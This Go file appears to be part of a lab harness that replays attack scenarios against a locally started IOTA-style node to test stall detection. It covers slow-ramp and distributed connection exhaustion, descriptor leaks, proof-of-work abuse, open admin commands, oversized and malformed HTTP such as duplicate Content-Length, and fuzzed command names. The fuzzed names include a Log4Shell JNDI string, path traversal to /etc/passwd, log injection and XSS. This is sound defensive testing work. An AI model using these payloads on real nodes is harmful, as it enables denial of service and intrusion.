package lab

import (
	"context"
	"fmt"
	"io"
	"net/netip"
	"strings"
	"time"

	"stallwatch/cmd/internal/demo"
)

// roomy is a node that no scenario of less than some hundred connections
// exhausts, with the workers of two cores.
var roomy = demo.NodeOptions{Workers: 16, FDLimit: 512}

// vethWith is playWith on a node of its own namespace, watched on the node's
// port.
func vethWith(ctx context.Context, st *Stage, o demo.NodeOptions, s demo.Scenario, attack bool, act func(context.Context, *cast) error) error {
	p, addrs, err := overVeth(st, o, "tcp port 14265")
	if err != nil {
		return err
	}
	s.Clients.Sources = addrs[:honest]
	return st.playWith(ctx, &cast{node: p, from: addrs[honest:]}, s, attack, act)
}

// playSlowRamp is the attack at a call every 3.5 s from a single address: no
// rate limit sees it, and a pool of 16 is full after 52 s.
func playSlowRamp(ctx context.Context, st *Stage) error {
	s := demo.DefaultScenario()
	s.WarmUp, s.Length = 5*time.Second, 80*time.Second
	s.Attack.Rate = 1 / 3.5
	p, addrs, err := overVeth(st, demo.NodeOptions{Workers: 16, FDLimit: 128}, "tcp port 14265")
	if err != nil {
		return err
	}
	s.Clients.Sources, s.Attack.Sources = addrs[:honest], addrs[honest:honest+1]
	return st.Play(ctx, p, s)
}

// playDistributed is the attack with one call an address.
func playDistributed(ctx context.Context, st *Stage) error {
	s := demo.DefaultScenario()
	s.WarmUp = 8 * time.Second
	p, addrs, err := overVeth(st, s.Node, "tcp port 14265")
	if err != nil {
		return err
	}
	crowd := netip.MustParsePrefix("10.78.0.0/16")
	// Any of its addresses may be taken, and the node finds the way back.
	if err := st.runHere("ip route add local " + crowd.String() + " dev lo"); err != nil {
		return err
	}
	if err := st.run("ip route add " + crowd.String() + " via " + addrs[0].String()); err != nil {
		return err
	}
	s.Clients.Sources, s.Attack.Sources = addrs[:honest], spread(crowd, 200)
	return st.Play(ctx, p, s)
}

// playResets has the attackers leave by RST: their sockets vanish from every
// table of the kernel, their descriptors stay until the calls end.
func playResets(ctx context.Context, st *Stage) error {
	d := demo.DefaultScenario()
	s := quietly(8*time.Second, 70*time.Second)
	return vethWith(ctx, st, d.Node, s, true, func(ctx context.Context, c *cast) error {
		c.each(ctx, 200, 500*time.Millisecond, func(i int) {
			if g := c.dial(ctx, i); g != nil {
				io.WriteString(g, post(stall))
				sleep(ctx, 3*time.Second)
				g.reset()
			}
		})
		return nil
	})
}

// stall is a call of the attack.
const stall = `{"command":"getTransactionsToApprove","depth":15,"reference":"` + demo.Reference + `"}`

// spread returns n addresses far from each other in a /16.
func spread(p netip.Prefix, n int) []netip.Addr {
	list := make([]netip.Addr, n)
	for i := range list {
		b := p.Addr().As4()
		b[2], b[3] = byte(i*37), byte(1+i*101%253)
		list[i] = netip.AddrFrom4(b)
	}
	return list
}

// playLeak has clients that are answered and never close: descriptors run out
// with nothing in flight and no CLOSE_WAIT.
func playLeak(ctx context.Context, st *Stage) error {
	o := demo.NodeOptions{Workers: 16, FDLimit: 128}
	return vethWith(ctx, st, o, quietly(8*time.Second, 75*time.Second), true, func(ctx context.Context, c *cast) error {
		c.each(ctx, 200, 450*time.Millisecond, func(i int) {
			if g := c.dial(ctx, i); g != nil {
				defer g.close()
				g.call(post(info)) // and then nothing
				<-ctx.Done()
			}
		})
		return nil
	})
}

// playPoW has eight clients that let the node do their proof of work.
func playPoW(ctx context.Context, st *Stage) error {
	o := roomy
	o.Compute = map[string]demo.Span{"attachToTangle": {Least: 5 * time.Second, Most: 9 * time.Second}}
	return vethWith(ctx, st, o, quietly(8*time.Second, 45*time.Second), true, func(ctx context.Context, c *cast) error {
		c.each(ctx, 8, 250*time.Millisecond, func(i int) {
			for ctx.Err() == nil {
				c.ask(ctx, i%4, fmt.Sprintf(`{"command":"attachToTangle","trunkTransaction":%q,"branchTransaction":%q,"minWeightMagnitude":14,"trytes":[%q]}`,
					hash(), hash(), strings.Repeat("9", 2673)))
				sleep(ctx, 100*time.Millisecond)
			}
		})
		return nil
	})
}

// playAdmin tries the operator's commands on a node that leaves two of them
// open, as most public nodes did in January 2018 (iotaledger/iri#474).
func playAdmin(ctx context.Context, st *Stage) error {
	o := roomy
	o.Limited = []string{"removeNeighbors", "getNeighbors", "interruptAttachingToTangle"}
	tries := []string{
		`{"command":"getNeighbors"}`,
		`{"command":"removeNeighbors","uris":["udp://198.51.100.7:14600"]}`,
		`{"command":"interruptAttachingToTangle"}`,
		`{"command":"addNeighbors","uris":["udp://203.0.113.66:14600"]}`,
		`{"command":"setApiRateLimit","limit":1}`,
	}
	return vethWith(ctx, st, o, quietly(8*time.Second, 40*time.Second), true, func(ctx context.Context, c *cast) error {
		c.each(ctx, 12, 2*time.Second, func(i int) { c.ask(ctx, i/6, tries[i%len(tries)]) })
		return nil
	})
}

// playOversized sends what exceeds MAX_REQUESTS_LIST and, larger still, what
// the node must read before it can refuse or even serve it.
func playOversized(ctx context.Context, st *Stage) error {
	one := hash()
	bodies := []string{
		listOf("findTransactions", "addresses", 1200, one),
		listOf("getBalances", "addresses", 1001, one),
		listOf("storeTransactions", "trytes", 200, strings.Repeat("9", 2673)), // 535 kB, and within every limit
		listOf("getTrytes", "hashes", 5500, one),                              // 462 kB
		listOf("wereAddressesSpentFrom", "addresses", 11_000, one),            // 924 kB
		`{"command":"broadcastTransactions","trytes":["` + strings.Repeat("9", 1_100_000) + `"]}`,
	}
	return vethWith(ctx, st, roomy, quietly(8*time.Second, 35*time.Second), true, func(ctx context.Context, c *cast) error {
		c.each(ctx, len(bodies), 3*time.Second, func(i int) { c.ask(ctx, i/3, bodies[i]) })
		return nil
	})
}

// playSuspect asks for what is within the protocol and of no use to a wallet.
func playSuspect(ctx context.Context, st *Stage) error {
	one := hash()
	bodies := []string{
		`{"command":"getTransactionsToApprove","depth":100}`,
		`{"command":"getTransactionsToApprove","depth":15,"numWalks":27}`,
		`{"command":"getTransactionsToApprove","depth":0}`,
		fmt.Sprintf(`{"command":"attachToTangle","trunkTransaction":%q,"branchTransaction":%q,"minWeightMagnitude":18,"trytes":["9"]}`, one, one),
		listOf("getInclusionStates", "transactions", 900, one),
		listOf("getBalances", "addresses", 900, one),
		`{"command":"findTransactions","tags":["` + strings.Repeat("9", 27) + `"]}`,
		`{"command":"getNodeInfo","command":"getTips"}`,
	}
	return vethWith(ctx, st, roomy, quietly(8*time.Second, 35*time.Second), true, func(ctx context.Context, c *cast) error {
		c.each(ctx, 2*len(bodies), 1200*time.Millisecond, func(i int) { c.ask(ctx, 0, bodies[i%len(bodies)]) })
		return nil
	})
}

// playMalformed sends what is no HTTP, and what is no JSON.
func playMalformed(ctx context.Context, st *Stage) error {
	bad := []string{
		"GET / HTTP/9.9\r\n\r\n",
		"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + strings.Repeat("\x5a", 200), // a TLS hello to a plain port
		"POST / HTTP/1.1\r\nContent-Length: -1\r\n\r\n{}",
		"POST / HTTP/1.1\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}\r\n",
		"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
		"POST / HTTP/1.1\r\nno colon in this header\r\n\r\n",
		"\x00\x00\x00\x00\xff\xfe\xfd garbage \x1b[31m\r\n\r\n",
		post(`{"command":"getNodeInfo"`),
		post(`{"command":7}`),
		post(`[{"command":"getNodeInfo"}]`),
		post(`command=getNodeInfo`),
		post("{\"command\":\"getBal\xffances\"}"),
		post(strings.Repeat("[", 20_000)),
		post(``),
	}
	return vethWith(ctx, st, roomy, quietly(8*time.Second, 40*time.Second), true, func(ctx context.Context, c *cast) error {
		c.each(ctx, 2*len(bad), time.Second, func(i int) {
			if g := c.dial(ctx, i/8); g != nil {
				defer g.close()
				g.SetDeadline(time.Now().Add(3 * time.Second)) // then it gives up
				g.call(bad[i%len(bad)])
			}
		})
		return nil
	})
}

// playRandom asks for commands that do not exist; some names are meant for the
// one who reads the log.
func playRandom(ctx context.Context, st *Stage) error {
	names := []string{
		"getSeed", "getnodeinfo", "GETBALANCES", "admin", "shutdown", "Snapshot.getBalances", "eth_blockNumber", "system.listMethods", "../../etc/passwd",
		`line\nbreak level=error msg=\"forged\"`, `\u001b[2J\u001b[31mred`, `\u202etxt.exe`, `\u0000`, "@everyone", "<!channel>", `<script>alert(1)</script>`,
		`{{.Summary}}`, "${jndi:ldap://192.0.2.1/a}", strings.Repeat("x", 9000), `\ud83d\ude00`,
	}
	return vethWith(ctx, st, roomy, quietly(8*time.Second, 40*time.Second), true, func(ctx context.Context, c *cast) error {
		c.each(ctx, 50, 500*time.Millisecond, func(i int) {
			name := fmt.Sprintf("c%s", hash()[:12])
			if i < len(names) {
				name = names[i]
			}
			c.ask(ctx, 0, `{"command":"`+name+`"}`)
		})
		return nil
	})
}

// playKill kills the node with calls in flight and starts it anew after 4 s.
func playKill(ctx context.Context, st *Stage) error {
	return playRestart(ctx, st, restart{
		scenario: quietly(15*time.Second, 45*time.Second), attack: true, down: 4 * time.Second, end: (*demo.NodeProc).Kill,
		before: func(ctx context.Context, c *cast) {
			c.each(ctx, 6, time.Second, func(i int) {
				c.ask(ctx, i, stall)
			})
		},
	})
}
